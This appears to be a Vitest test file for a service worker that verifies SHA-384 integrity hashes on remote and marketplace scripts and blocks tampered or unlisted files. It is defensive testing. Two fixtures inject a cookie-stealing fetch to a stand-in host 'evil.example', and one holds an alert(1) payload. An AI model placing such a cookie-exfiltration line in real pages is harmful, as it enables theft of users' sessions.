import { createHash } from 'node:crypto'
import { describe, expect, it, vi } from 'vitest'
import {
  BLOCKED_HEADER,
  cachePersistence,
  createIntegrityStore,
  handleRemoteRequest,
  isRemoteUrl,
  moduleOfPath,
  sanitizeMap,
  sha384Digests,
  verifyBytes,
  type IntegrityMap,
  type IntegrityMaps,
  type IntegrityPersistence,
} from '../src/sw/integrity'

const ORIGIN = 'https://app.example.cd'
const entryCode = 'export const init = () => "contacts"'
const chunkCode = 'export default { id: "contacts" }'
const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`
const map: IntegrityMap = {
  '/remotes/contacts/remoteEntry.js': sri(entryCode),
  '/remotes/contacts/assets/module-abc.js': sri(chunkCode),
}

function serving(files: Record<string, string>) {
  return vi.fn(async (request: Request) => {
    const path = new URL(request.url).pathname
    return path in files
      ? new Response(files[path], {
          status: 200,
          headers: { 'content-type': 'text/javascript', 'etag': '"v1"' },
        })
      : new Response('not found', { status: 404 })
  })
}

const request = (path: string) => new Request(`${ORIGIN}${path}`)

describe('integrity verification', () => {
  it('computes the same digest as Node for sha384 SRI values, ignoring other algorithms', async () => {
    await expect(
      verifyBytes(
        '/remotes/contacts/remoteEntry.js',
        new TextEncoder().encode(entryCode).buffer as ArrayBuffer,
        map
      )
    ).resolves.toEqual({ ok: true })
    expect(sha384Digests('sha256-abc sha384-def sha384-ghi?x')).toEqual(['def', 'ghi'])
    await expect(
      verifyBytes('/remotes/x.js', new ArrayBuffer(1), { '/remotes/x.js': 'sha256-abc' })
    ).resolves.toEqual({ ok: false, reason: 'unsupported-algorithm' })
  })

  it('hands over a listed file whose bytes match, unchanged and with its headers', async () => {
    const fetch = serving({ '/remotes/contacts/remoteEntry.js': entryCode })
    const response = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
      fetch,
      loadMap: async () => map,
    })
    expect(response.status).toBe(200)
    expect(await response.text()).toBe(entryCode)
    expect(response.headers.get('content-type')).toBe('text/javascript')
    expect(response.headers.get(BLOCKED_HEADER)).toBeNull()
  })

  it('blocks a tampered file with a 403 that cannot run as a script', async () => {
    const fetch = serving({
      '/remotes/contacts/assets/module-abc.js': `${chunkCode};fetch("https://evil.example/steal?c="+document.cookie)`,
    })
    const response = await handleRemoteRequest(request('/remotes/contacts/assets/module-abc.js'), {
      fetch,
      loadMap: async () => map,
    })
    expect(response.status).toBe(403)
    expect(response.headers.get('content-type')).toMatch(/^text\/plain/)
    expect(response.headers.get(BLOCKED_HEADER)).toBe('mismatch')
    expect(await response.text()).not.toContain('evil')
  })

  it('blocks a file the manifest does not list, without even fetching it', async () => {
    const fetch = serving({ '/remotes/contacts/assets/injected.js': 'alert(1)' })
    const response = await handleRemoteRequest(request('/remotes/contacts/assets/injected.js'), {
      fetch,
      loadMap: async () => map,
    })
    expect(response.status).toBe(403)
    expect(response.headers.get(BLOCKED_HEADER)).toBe('unlisted')
    expect(fetch).not.toHaveBeenCalled()
  })

  it('keys the map on the path: a query string does not make a listed file unlisted, another path is not allowed', async () => {
    const fetch = serving({
      '/remotes/contacts/remoteEntry.js': entryCode,
      '/remotes/other/remoteEntry.js': entryCode,
    })
    expect(
      (
        await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js?v=2'), {
          fetch,
          loadMap: async () => map,
        })
      ).status
    ).toBe(200)
    expect(
      (
        await handleRemoteRequest(request('/remotes/other/remoteEntry.js'), {
          fetch,
          loadMap: async () => map,
        })
      ).status
    ).toBe(403)
  })

  it('fails closed with no map, on a network failure, and passes error statuses on without a body', async () => {
    const fetch = serving({ '/remotes/contacts/remoteEntry.js': entryCode })
    expect(
      (
        await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
          fetch,
          loadMap: async () => ({}),
        })
      ).status
    ).toBe(403)
    const offline = vi.fn(async () => {
      throw new TypeError('Failed to fetch')
    })
    const unreachable = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
      fetch: offline,
      loadMap: async () => map,
    })
    expect(unreachable.headers.get(BLOCKED_HEADER)).toBe('no-response')
    const missing = await handleRemoteRequest(request('/remotes/contacts/assets/module-abc.js'), {
      fetch: serving({}),
      loadMap: async () => map,
    })
    expect(missing.status).toBe(404)
    expect(await missing.text()).toBe('')
  })

  it('refuses a vendor file changed after review, or a chunk the signed list does not name', async () => {
    const base = '/marketplace/files/acme-hello/1.0.0/'
    const vendorMap: IntegrityMap = {
      [`${base}remoteEntry.js`]: sri(entryCode),
      [`${base}assets/page.js`]: sri(chunkCode),
    }
    const files = {
      [`${base}remoteEntry.js`]: entryCode,
      [`${base}assets/page.js`]: `${chunkCode};fetch("https://evil.example")`,
      [`${base}assets/extra.js`]: 'export {}',
    }
    const deps = { fetch: serving(files), loadMap: async () => vendorMap }
    const entry = await handleRemoteRequest(request(`${base}remoteEntry.js`), deps)
    expect(entry.status).toBe(200)
    const changed = await handleRemoteRequest(request(`${base}assets/page.js`), deps)
    expect(changed.status).toBe(403)
    expect(changed.headers.get(BLOCKED_HEADER)).toBe('mismatch')
    const added = await handleRemoteRequest(request(`${base}assets/extra.js`), deps)
    expect(added.status).toBe(403)
    expect(added.headers.get(BLOCKED_HEADER)).toBe('unlisted')
    expect(deps.fetch).toHaveBeenCalledTimes(2)
  })

  it('names the module a checked path belongs to', () => {
    expect(moduleOfPath('/remotes/contacts/assets/a.js')).toBe('contacts')
    expect(moduleOfPath('/marketplace/files/acme-hello/1.0.0/remoteEntry.js')).toBe('acme-hello')
    expect(moduleOfPath('/assets/index.js')).toBeNull()
  })

  it('keeps only entries under the checked prefixes from a page', () => {
    expect(
      sanitizeMap({
        '/remotes/contacts/remoteEntry.js': 'sha384-a',
        '/marketplace/files/acme-hello/1.0.0/remoteEntry.js': 'sha384-b',
        '/assets/index.js': 'sha384-c',
        '/marketplace/signatures/acme-hello/1.0.0': 'sha384-d',
      })
    ).toEqual({
      '/remotes/contacts/remoteEntry.js': 'sha384-a',
      '/marketplace/files/acme-hello/1.0.0/remoteEntry.js': 'sha384-b',
    })
  })

  it('only guards same-origin paths under /remotes/ and /marketplace/files/', () => {
    expect(isRemoteUrl(new URL(`${ORIGIN}/remotes/contacts/remoteEntry.js`), ORIGIN)).toBe(true)
    expect(
      isRemoteUrl(new URL(`${ORIGIN}/marketplace/files/acme-hello/1.0.0/remoteEntry.js`), ORIGIN)
    ).toBe(true)
    expect(isRemoteUrl(new URL(`${ORIGIN}/marketplace/signatures/acme-hello/1.0.0`), ORIGIN)).toBe(
      false
    )
    expect(isRemoteUrl(new URL(`${ORIGIN}/assets/index.js`), ORIGIN)).toBe(false)
    expect(
      isRemoteUrl(new URL('https://cdn.example/remotes/contacts/remoteEntry.js'), ORIGIN)
    ).toBe(false)
  })
})

describe('integrity store', () => {
  function memoryPersistence(): IntegrityPersistence & { saved: IntegrityMaps | null } {
    return {
      saved: null,
      async read() {
        return this.saved
      },
      async write(next) {
        this.saved = next
      },
    }
  }

  it('gives a page that sent nothing an empty map (so everything is blocked) and keeps only well-formed entries', async () => {
    const store = createIntegrityStore(memoryPersistence())
    await expect(store.load('page-1')).resolves.toEqual({})
    await store.set(
      'page-1',
      { '/remotes/a/remoteEntry.js': 'sha384-a', '/assets/not-a-remote.js': 'sha384-x' },
      ['page-1']
    )
    expect(await store.load('page-1')).toEqual({ '/remotes/a/remoteEntry.js': 'sha384-a' })
    expect(await store.load('page-2')).toEqual({})
  })

  it("checks each page against its own manifest, replaces a page's map, and forgets closed pages", async () => {
    const persistence = memoryPersistence()
    const store = createIntegrityStore(persistence)
    await store.set('org-1-tab', { '/remotes/a/remoteEntry.js': 'sha384-a' }, ['org-1-tab'])
    await store.set('org-2-tab', { '/remotes/b/remoteEntry.js': 'sha384-b' }, [
      'org-1-tab',
      'org-2-tab',
    ])
    expect(await store.load('org-1-tab')).toEqual({ '/remotes/a/remoteEntry.js': 'sha384-a' })
    await store.set('org-1-tab', { '/remotes/c/remoteEntry.js': 'sha384-c' }, ['org-1-tab'])
    expect(await store.load('org-1-tab')).toEqual({ '/remotes/c/remoteEntry.js': 'sha384-c' })
    expect(Object.keys(persistence.saved!)).toEqual(['org-1-tab'])
  })

  it('survives a worker restart by reading the maps back from the Cache API', async () => {
    const entries = new Map<string, Response>()
    const cache = {
      match: async (key: string) => entries.get(key)?.clone(),
      put: async (key: string, response: Response) => void entries.set(key, response),
    }
    const caches = { open: async () => cache } as unknown as CacheStorage
    await createIntegrityStore(cachePersistence(caches, ORIGIN)).set('page-1', map, ['page-1'])
    const restarted = createIntegrityStore(cachePersistence(caches, ORIGIN))
    expect(await restarted.load('page-1')).toEqual(map)
    const response = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
      fetch: serving({ '/remotes/contacts/remoteEntry.js': entryCode }),
      loadMap: () => restarted.load('page-1'),
    })
    expect(response.status).toBe(200)
  })
})
